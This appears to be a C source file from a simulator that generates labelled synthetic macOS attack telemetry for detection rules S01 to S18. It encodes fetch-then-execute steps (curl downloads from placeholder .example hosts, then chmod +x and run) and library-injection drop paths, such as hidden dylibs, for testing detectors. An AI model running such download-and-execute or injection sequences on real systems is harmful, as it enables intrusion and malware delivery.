#include "attacks.h"

#include "acts.h"

#include <assert.h>

#define PLACES_MAX 3
#define STEP_NS    (1200u * MILLISECOND_NS)  // Until the next step, at most.

struct attack {
    const char *rule;
    const char *also;               // A second rule that the same behaviour must meet, or NULL.
    const char *drops[PLACES_MAX];  // The file fetched first, a place for each of the attacked
                                    // Macs in turn, up to the first NULL.
    const char *from;
    bool is_program;  // It is made executable.
    attack_act *act;
};

static const char *place_of(const struct host *h, const struct attack *a);
static void fetch(struct host *h, const struct attack *a);
static void make_executable(struct host *h, const struct attack *a);
static void add_label(const struct host *h, const char *rule, const struct deed *d,
                      struct buf *labels);

// Places from which no vendor loads a library.
#define FOREIGN_PATHS                                                    \
    "/Users/Shared/libstatus.dylib", "~/Library/.fonts/libstatus.dylib", \
        "/private/tmp/libstatus.dylib"

static const struct attack attacks[] = {
    { .rule = "S01",
      .drops = { DROP_BUNDLE },
      .from = "https://cdn.sync-update.example/agent",
      .is_program = true,
      .act = act_link_from_memory },
    { .rule = "S02",
      .drops = { DROP_STAGER },
      .from = "https://fonts.example/cache",
      .is_program = true,
      .act = act_write_then_execute },
    { .rule = "S03",
      .drops = { DROP_FRESH },
      .from = "https://fonts.example/helper",
      .is_program = true,
      .act = act_execute_when_fresh },
    { .rule = "S04",
      .drops = { DROP_PATCH },
      .from = "https://patches.example/parlo",
      .act = act_lose_signature },
    { .rule = "S05",
      .drops = { DROP_INJECT },
      .from = "https://cdn.sync-update.example/attach",
      .is_program = true,
      .act = act_start_thread },
    { .rule = "S06",
      .drops = { DROP_LOADER },
      .from = "https://meet.example/helper",
      .is_program = true,
      .act = act_take_child },
    { .rule = "S07",
      .drops = { DROP_TRACER },
      .from = "https://cdn.sync-update.example/trace",
      .is_program = true,
      .act = act_trace_and_change },
    { .rule = "S08",
      .also = "S09",
      .drops = { DROP_INSERT },
      .from = "https://files.example/h.dylib",
      .act = act_insert_library },
    { .rule = "S09",
      .drops = { FOREIGN_PATHS },
      .from = "https://files.example/s.dylib",
      .act = act_load_foreign_library },
    { .rule = "S10",
      .drops = { DROP_PLANT },
      .from = "https://files.example/c.dylib",
      .act = act_plant_library },
    { .rule = "S11",
      .drops = { DROP_BINARY },
      .from = "https://files.example/ledger",
      .is_program = true,
      .act = act_rewrite_app },
    { .rule = "S12",
      .drops = { DROP_HIDDEN },
      .from = "https://files.example/fse",
      .is_program = true,
      .act = act_start_hidden_helper },
    { .rule = "S13",
      .drops = { DROP_SCRIPT },
      .from = "https://files.example/reporter",
      .is_program = true,
      .act = act_run_script_engine },
    { .rule = "S14",
      .drops = { DROP_ODD },
      .from = "https://files.example/settings",
      .act = act_load_and_delete },
    { .rule = "S15",
      .drops = { DROP_PAYLOAD },
      .from = "https://bank.example/viewer",
      .is_program = true,
      .act = act_run_payload },
    { .rule = "S16",
      .drops = { DROP_CHILD },
      .from = "https://files.example/gpu",
      .is_program = true,
      .act = act_debug_app },
    { .rule = "S17",
      .drops = { DROP_PLUG_IN },
      .from = "https://files.example/invoice",
      .act = act_load_plug_in },
    { .rule = "S18",
      .drops = { DROP_SWAP },
      .from = "https://files.example/box",
      .is_program = true,
      .act = act_swap_app },
};

bool attacks_parse(str names, uint32_t *out_kinds)
{
    if (str_eq(names, STR("all")) || str_eq(names, STR("none"))) {
        *out_kinds = str_eq(names, STR("all")) ? (1u << COUNT_OF(attacks)) - 1 : 0;
        return true;
    }
    uint32_t kinds = 0;
    str name;
    while (str_take_until(&names, ',', &name)) {
        size_t i = 0;
        while (i < COUNT_OF(attacks) && !str_eq(name, str_of(attacks[i].rule)))
            i++;
        if (i == COUNT_OF(attacks))
            return false;
        kinds |= 1u << i;
    }
    *out_kinds = kinds;
    return kinds != 0;
}

void attacks_plan(struct host *h, uint32_t kinds, uint64_t span_ns, struct attack_plan *out)
{
    *out = (struct attack_plan){ 0 };
    for (unsigned kind = 0; kind < COUNT_OF(attacks); kind++) {
        if ((kinds & (1u << kind)) != 0)
            out->runs[out->run_count++].kind = kind;
    }
    // The last fifth is left for finishing what has begun.
    const uint64_t share = span_ns / 5 * 4 / (out->run_count + 1);
    for (size_t i = 0; i < out->run_count; i++)
        out->runs[i].due_ns =
            h->place.now_ns + share * (i + 1) - rng_between(&h->rng, 0, share / 2);
}

bool attacks_step(struct host *h, struct attack_plan *plan, struct buf *labels)
{
    for (size_t i = 0; i < plan->run_count; i++) {
        struct attack_run *run = &plan->runs[i];
        const struct attack *a = &attacks[run->kind];
        if (run->is_over || run->due_ns > h->place.now_ns)
            continue;
        if (run->step == 0)
            fetch(h, a);
        else if (run->step == 1 && a->is_program)
            make_executable(h, a);
        else {
            const struct deed d = a->act(h, place_of(h, a));
            host_wait(h, 2 * SECOND_NS);
            host_exit(h, &d.process, 0);
            add_label(h, a->rule, &d, labels);
            if (a->also != NULL)
                add_label(h, a->also, &d, labels);
            run->is_over = true;
        }
        run->step++;
        run->due_ns = h->place.now_ns + rng_between(&h->rng, STEP_NS / 4, STEP_NS);
        return true;
    }
    return false;
}

void attacks_finish(struct host *h, struct attack_plan *plan, struct buf *labels)
{
    do {
        for (size_t i = 0; i < plan->run_count; i++)
            plan->runs[i].due_ns = 0;
        host_wait(h, STEP_NS);
    } while (attacks_step(h, plan, labels));
}

static const char *place_of(const struct host *h, const struct attack *a)
{
    size_t count = 1;  // There is always one.
    while (count < PLACES_MAX && a->drops[count] != NULL)
        count++;
    return a->drops[h->index / ATTACKED_OF % count];
}

static void fetch(struct host *h, const struct attack *a)
{
    const char *const args[] = { "curl", "-fsSL", "-o", place_of(h, a), a->from, NULL };
    const struct process p =
        host_spawn(h, h->shell, &(struct launch){ .program = &program_curl, .args = args });
    host_read_file(h, &p, "/private/etc/ssl/cert.pem");
    (void)host_write_file(h, &p, place_of(h, a));
    host_exit(h, &p, 0);
}

static void make_executable(struct host *h, const struct attack *a)
{
    const char *const args[] = { "chmod", "+x", place_of(h, a), NULL };
    const struct process p =
        host_spawn(h, h->shell, &(struct launch){ .program = &program_chmod, .args = args });
    host_exit(h, &p, 0);
}

struct process act_run(struct host *h, const struct program *payload)
{
    const struct launch launch = { .program = payload, .code = h->place.salt, .is_new = true };
    const struct process p = host_spawn(h, h->shell, &launch);
    host_wait(h, 400 * MILLISECOND_NS);
    return p;
}

static void add_label(const struct host *h, const char *rule, const struct deed *d,
                      struct buf *labels)
{
    char start[JSON_TIME_SIZE];
    char end[JSON_TIME_SIZE];
    const str start_text = json_time(d->start_ns, 9, start);
    const str end_text = json_time(d->end_ns, 9, end);
    buf_printf(labels, "{\"rule\":\"%s\",\"host\":\"%s\",\"pid\":%u,\"pidversion\":%u,", rule,
               h->id, d->process.token.pid, d->process.token.pidversion);
    buf_add(labels, STR("\"executable\":\""));
    buf_add_json(labels, str_of(d->process.path));
    buf_printf(labels, "\",\"start\":\"%.*s\",\"end\":\"%.*s\"}\n", STR_ARG(start_text),
               STR_ARG(end_text));
    assert(!labels->failed);
}
